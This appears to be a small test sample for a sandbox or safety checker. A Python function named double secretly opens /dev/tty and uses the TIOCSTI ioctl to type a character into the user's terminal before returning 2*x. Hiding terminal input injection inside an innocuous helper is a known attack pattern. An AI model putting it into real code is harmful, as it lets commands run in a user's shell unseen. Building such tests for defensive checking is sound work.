# attack: types into the terminal
# ending: runtime error
import fcntl


def double(x):
    with open("/dev/tty") as terminal:
        fcntl.ioctl(terminal, 0x5412, b"x")
    return 2 * x
